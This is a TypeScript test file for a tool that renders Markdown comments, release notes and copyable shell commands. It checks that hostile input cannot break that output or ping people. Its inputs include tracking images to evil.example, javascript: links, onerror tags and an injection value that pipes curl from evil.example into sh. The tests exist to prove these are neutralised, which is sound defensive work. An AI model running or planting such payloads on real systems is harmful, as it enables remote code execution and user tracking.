import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { renderDryRun } from "../../src/commands/summary.ts";
import { renderCompatibility } from "../../src/compatibility/render.ts";
import { renderMove } from "../../src/deployment/render.ts";
import { truncateMarkdown } from "../../src/lib/truncate-markdown.ts";
import { block, code, details, link, plain, table } from "../../src/markdown/markdown.ts";
import { shellQuoted } from "../../src/markdown/snippets.ts";
import { putBlock, versionInNotes } from "../../src/release-notes/render.ts";
import { HOSTILE, ID, OTHER_ID, structureOf } from "../unit/testing/gate-support.ts";
import { API, HOTDOG } from "../unit/testing/report-support.ts";

/** More of what people have tried on pages that others read. */
const BEACONS = [
  ...HOSTILE.map(([, text]) => text),
  "![](https://evil.example/beacon.png)",
  "[click](javascript:alert(1))",
  "<https://evil.example>",
  "https://evil.example/steal",
  "www.evil.example",
  "&lt;img src=x&gt; &amp; &#60;",
  "**bold** _it_ ~~gone~~ *a*",
  "<!-- push-to-replicate: preview of acme/hotdog -->",
  "\\`<img src=x onerror=alert(1)>\\`",
  "<details><summary>x</summary>",
];

/** What GitHub looks for mentions and references in: the text that is neither code nor a comment. */
function prose(markdown: string): string {
  const html = marked.parse(markdown, { gfm: true, async: false });
  return html
    .replace(/<(code|pre)[\s>][\s\S]*?<\/\1>/g, "")
    .replace(/<!--[\s\S]*?-->/g, "")
    .replace(/<[^>]*>/g, "");
}

const PLACES: Readonly<Record<string, (text: string) => string>> = {
  "a text among words": (text) => `Some ${plain(text)} more.`,
  "an action of a dry run": (text) => renderDryRun(HOTDOG, [text, "build"]),
  "a code span": (text) => `Some ${code(text)} more.`,
  "a cell": (text) => table(["A"], [[code(text)]]),
  "a folded section's title": (text) => details("Failed", "body", text),
  "a block": (text) => block("text", text),
  "a page's address": (text) => link("x", `https://replicate.com/${text}`),
  "a choice that was removed": (text) =>
    renderCompatibility({
      verdict: "breaking",
      changes: [
        {
          part: "Input",
          name: "size",
          before: text,
          after: undefined,
          verdict: "breaking",
          findings: [{ code: "choices-removed", about: text, effect: "narrower" }],
        },
      ],
    }),
};

describe.each(Object.entries(PLACES))("%s", (_place, render) => {
  it.each(BEACONS)("does not change its structure with %j", (text) => {
    expect(structureOf(render(text))).toEqual(structureOf(render("mustard")));
  });

  it("notifies nobody", () => {
    expect(prose(render("@acme/everyone and @mona"))).not.toMatch(/@\w/);
  });
});

it.each(["javascript:alert(1)", "data:text/html,x", "//evil.example", "vbscript:x", ""])(
  "an address that is not a web page's is no link: %j",
  (url) => {
    expect(link("text", url)).toBe("`text`");
  },
);

describe("a comment that is too long", () => {
  const folded = (text: string) => details("Failed", block("text", text), "name");

  it("loses folded sections from the end, each as a whole", () => {
    const parts = ["# Title", folded("one"), "between", folded("two"), "end"];
    const text = parts.join("\n\n");
    expect(truncateMarkdown(text, text.length)).toBe(text);
    const shorter = truncateMarkdown(text, text.length - 1);
    expect(shorter).toContain(parts[1]);
    expect(shorter).toContain("between");
    expect(shorter).not.toContain("two");
    expect(shorter).toContain("end");
  });

  it.each([
    "</details>\n\n![](https://evil.example/b.png)",
    "<details>\n</details>\n\n<img src=x>",
    "<details>\n```\n</details>\n![](https://evil.example/b.png)",
    "````\n</details>\n<details>\n````text",
  ])("keeps text within its block: %j", (hostile) => {
    const text = ["# T", folded(hostile), folded(`${hostile}${"x".repeat(500)}`), "end"].join(
      "\n\n",
    );
    const ordinary = ["# T", folded("a"), folded("b".repeat(500)), "end"].join("\n\n");
    const most = text.length - 100;
    expect(structureOf(truncateMarkdown(text, most))).toEqual(
      structureOf(truncateMarkdown(ordinary, ordinary.length - 100)),
    );
    expect(truncateMarkdown(text, most)).toContain("end");
  });

  it("contains nothing of a line that is too long", () => {
    expect(truncateMarkdown("x".repeat(10), 5)).toBe("");
  });

  it("ends with a whole line where nothing is folded", () => {
    const row = "| `![](https://evil.example/b.png)` |";
    const text = `| A |\n| --- |\n${`${row}\n`.repeat(50)}`;
    for (let most = 40; most < 80; most++)
      expect(structureOf(truncateMarkdown(text, most))).not.toContain("<img");
  });
});

describe("the notes of a release", () => {
  it.each([
    "<!-- /push-to-replicate: acme/hotdog -->",
    `<!-- push-to-replicate: acme/hotdog ${OTHER_ID} -->`,
    `<!-- push-to-replicate: acme/hotdog ${OTHER_ID} -->\n<!-- /push-to-replicate: acme/hotdog -->`,
  ])("have one block, whatever is in it: %j", (marker) => {
    const first = putBlock("Mine", HOTDOG, ID, `old\n\n${marker}\n\nold`);
    const second = putBlock(first, HOTDOG, OTHER_ID, "new");
    expect(versionInNotes(first, HOTDOG)).toBe(ID);
    expect(second.startsWith("Mine\n\n<!-- push-to-replicate: acme/hotdog ")).toBe(true);
    expect(second).not.toContain("old");
  });
});

describe("a command that people copy", () => {
  const BAD = `x'; curl https://evil.example | sh; echo '`;

  it("quotes text from outside", () => {
    expect(shellQuoted(BAD)).toBe(`'x'\\''; curl https://evil.example | sh; echo '\\'''`);
  });

  it("is one command that rolls back a deployment, whatever its version is called", () => {
    const release = {
      ...{ number: 2, model: "acme/hotdog", version: ID, hardware: "cpu" },
      ...{ minInstances: 0, maxInstances: 1 },
    };
    const deployment = { owner: "acme", name: "live", release };
    const moved = (from: string) =>
      renderMove(
        { deployment, before: { ...deployment, release: { ...release, version: from } } },
        API,
      );
    const text = moved(BAD);
    expect(text).toContain(`-d '{"version":"x'\\''; curl`);
    expect(structureOf(text)).toEqual(structureOf(moved(OTHER_ID)));
  });
});
